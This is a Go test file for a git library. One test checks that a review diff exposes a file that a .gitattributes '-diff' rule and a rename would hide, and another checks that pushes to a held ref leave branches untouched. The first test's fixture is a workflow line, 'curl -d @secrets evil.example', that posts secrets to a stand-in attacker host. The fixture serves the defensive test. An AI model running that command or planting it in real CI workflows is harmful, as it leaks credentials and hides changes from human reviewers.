package git_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/disinto/disinto/lib/git"
)

// TestReviewDiffShowsWhatTheRepositoryHides: a change whose repository
// marks a file binary, or moves a file into a directory, still shows every
// line to the one approving it.
func TestReviewDiffShowsWhatTheRepositoryHides(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.pushMain(t, "steal.yml", "run: curl -d @secrets evil.example\n")
	f.pushMain(t, ".gitattributes", "*.yml -diff\n")
	repo := cloneFixture(t, newGit(nil), f)
	ctx := t.Context()
	wt := filepath.Join(t.TempDir(), "wt")
	if _, err := repo.AddWorktree(ctx, wt, "work", "origin/main"); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(wt, ".forgejo", "workflows"), 0o755); err != nil {
		t.Fatal(err)
	}
	sh(t, wt, nil, "mv", "steal.yml", ".forgejo/workflows/ci.yml")
	sh(t, wt, nil, "commit", "--quiet", "-m", "move")
	d, err := repo.ReviewDiff(ctx, "origin/main...work")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(d, "+run: curl -d @secrets evil.example") || strings.Contains(d, "Binary files") || strings.Contains(d, "rename from") {
		t.Fatalf("review diff hides the moved file's content:\n%s", d)
	}
	// The plain diff, for contrast, hides it.
	if plain, err := repo.Diff(ctx, repo.Dir(), "origin/main", "work"); err != nil || strings.Contains(plain, "+run: curl") {
		t.Fatalf("plain diff shows the content (the test proves nothing): %v\n%s", err, plain)
	}
}

// TestPushToRef: a push to a ref outside refs/heads leaves the branches
// alone.
func TestPushToRef(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	repo := cloneFixture(t, newGit(nil), f)
	ctx := t.Context()
	wt := filepath.Join(t.TempDir(), "wt")
	if _, err := repo.AddWorktree(ctx, wt, "fix/issue-3", "origin/main"); err != nil {
		t.Fatal(err)
	}
	commitIn(t, wt, "x.txt", "x\n")
	commitIn(t, wt, "y.txt", "y\n")
	head := sh(t, wt, nil, "rev-parse", "HEAD")
	first := sh(t, wt, nil, "rev-parse", "HEAD~1")
	// A later hold replaces an earlier one, fast-forward or not.
	for _, sha := range []string{head, first, head} {
		if err := repo.Push(ctx, wt, "fix/issue-3", git.PushOptions{Ref: "refs/disinto/held/fix/issue-3", Source: sha, Force: true}); err != nil {
			t.Fatal(err)
		}
	}
	if got := sh(t, f.bare, nil, "rev-parse", "refs/disinto/held/fix/issue-3"); got != head {
		t.Fatalf("held ref at %q, want %s", got, head)
	}
	if heads := sh(t, f.bare, nil, "for-each-ref", "--format=%(refname)", "refs/heads"); heads != "refs/heads/main" {
		t.Fatalf("branches after the push: %q", heads)
	}
}
